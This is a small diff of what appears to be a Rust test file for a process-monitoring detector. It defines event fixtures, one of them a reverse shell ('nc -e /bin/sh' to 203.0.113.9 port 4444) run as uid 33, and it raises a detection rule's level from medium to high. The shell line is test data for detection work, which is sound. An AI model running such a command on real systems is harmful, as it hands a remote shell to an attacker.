@@ -11,7 +11,7 @@ use support::{agent, complaint, model};
 
 const SHELL: &str = r#"{"id":"a1","process":{"exe":"/usr/bin/ncat","argv":["nc","-e","/bin/sh","203.0.113.9","4444"],"uid":33},"connections":[{"direction":"out","protocol":"tcp","address":"203.0.113.9","port":4444}]}"#;
 const LISTING: &str = r#"{"id":"b2","process":{"exe":"/usr/bin/ls","argv":["ls","-l"],"cwd":"/root","uid":0,"euid":0,"tty":true,"stdin":"tty","stdout":"tty","stderr":"tty"}}"#;
-const RULE: &str = "title: Lists\nid: r1\nlevel: medium\nlogsource: {category: process_creation}\n\
+const RULE: &str = "title: Lists\nid: r1\nlevel: high\nlogsource: {category: process_creation}\n\
                     detection:\n  s: {Image|endswith: /ls}\n  condition: s\n";
 
 /// Answers to both stories, and what was said on stderr.
